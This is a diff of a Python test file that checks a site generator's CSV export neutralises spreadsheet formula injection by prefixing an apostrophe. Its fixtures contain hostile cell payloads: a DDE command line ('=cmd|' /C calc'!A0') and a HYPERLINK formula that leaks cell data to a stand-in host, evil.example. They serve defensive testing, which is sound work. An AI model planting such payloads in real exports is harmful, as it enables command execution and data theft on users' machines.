@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 import json
 import re
@@ -10,10 +11,12 @@ import re
 import jsonschema
 import pytest
 import yaml
-from helpers import VALID_FRONT, article, build_site, write_site
+from helpers import CONFIG, VALID_FRONT, article, build_site, write_site
 from series_site import real_builds, series_site
 
-from site_gen.render.exports import COLUMNS
+from site_gen.core.model import Article, Claim, Claimant, Source
+from site_gen.core.quantities import parse_quantity
+from site_gen.render.exports import COLUMNS, article_rows, claims_csv
 from site_gen.render.jsonld import html_safe_json
 
 
@@ -118,8 +121,53 @@ def test_csv_cells_are_the_json_values(small):
                 assert cell == str(value).lower()
             elif isinstance(value, (list, dict)):
                 assert json.loads(cell) == value
+            elif isinstance(value, str) and value[:1] in FORMULA_FIRST:
+                assert cell == "'" + value
             else:
                 assert cell == str(value)
+
+
+#: OWASP's list of first characters that make a spreadsheet run a cell as a formula.
+FORMULA_FIRST = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+HOSTILE_CONFIG = CONFIG + """\
+  evil: {name: "=cmd|' /C calc'!A0", side: "@SUM(1+1)", kind: "-2+3"}
+"""
+HOSTILE_FRONT = """\
+title: "=1+1"
+date: 2024-07-05
+sources:
+  - id: mod
+    name: "+1 News"
+    url: https://example.org/mod
+    accessed: 2024-07-06
+claims:
+  - id: hyperlink
+    claimant: evil
+    measure: "@killed"
+    subject: "-2+3"
+    claimed_on: 2024-07-05
+    text: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
+    total: 5
+    by_group: {"@SUM(A1:A9)": 2, "-2+3": 3}
+    sources: [mod]
+"""
+
+
+def test_csv_text_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(tmp_path):
+    """Issue 11, item 11: cells starting with =, +, -, @ were written as they are (formula injection)."""
+    build_site(write_site(tmp_path, {"a.md": article(HOSTILE_FRONT)}, config=HOSTILE_CONFIG))
+    rows = csv_rows((tmp_path / "build/claims.csv").read_bytes())
+    records = json.loads((tmp_path / "build/claims.json").read_text(encoding="utf-8"))["claims"]
+    [first] = [dict(zip(rows[0], row)) for row in rows[1:]]
+    assert first["text"] == "\'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for details\")"
+    assert (first["claimant_name"], first["side"]) == ("\'=cmd|\' /C calc\'!A0", "\'@SUM(1+1)")
+    assert (first["measure"], first["subject"], first["article_title"]) == ("\'@killed", "\'-2+3", "\'=1+1")
+    assert (first["value"], first["low"], first["high"]) == ("5", "5", "5")
+    assert [g["group"] for g in json.loads(first["by_group"])] == ["@SUM(A1:A9)", "-2+3"]
+    assert json.loads(first["sources"])[0]["name"] == "+1 News"
+    assert not [c for row in rows for c in row if c.startswith(FORMULA_FIRST)]
+    assert records[0]["text"].startswith("=HYPERLINK(") and records[0]["claimant_name"] == "=cmd|' /C calc'!A0"
 
 
 def test_the_data_licence_is_published_and_referenced(real):
@@ -170,3 +218,19 @@ def test_json_ld_cannot_break_out_of_its_script_element(tmp_path):
     assert "<" not in block and ">" not in block and "&" not in block
     assert jsonld_of(html)["@graph"][0]["text"] == "over 2,000 </script><!-- & killed"
     assert html_safe_json({"a": "<&>"}) == '{\n "a": "\\u003c\\u0026\\u003e"\n}'
+
+
+@pytest.mark.parametrize("text", ["\tindented", "\r\nnew line", "\nnew line", "-5", "+1", "@SUM(A1)", "=1"])
+def test_text_starting_with_any_formula_character_gets_an_apostrophe_in_csv_only(text):
+    """Content fields are stripped of leading white space, but the export does not rely on that."""
+    source = Source("mod", "https://example.org/mod", name=text)
+    claim = Claim("c1", Claimant("ru-mod", text, text), text, (source,), measure=text, total=parse_quantity(5))
+    page = Article(path="content/articles/a.md", slug="a", title=text, date=dt.datetime(2024, 7, 5, tzinfo=dt.timezone.utc),
+                   body="", body_line=1, claims=(claim,))
+    parts = [article_rows(page, "https://example.org/", ((),))]
+    header, row = csv_rows(claims_csv(parts))
+    cells = dict(zip(header, row))
+    for column in ("claimant_name", "side", "measure", "text", "article_title"):
+        assert cells[column] == "'" + text, column
+    assert (cells["value"], cells["low"], cells["high"]) == ("5", "5", "5")
+    assert json.loads(parts[0].json_lines[0])["text"] == text
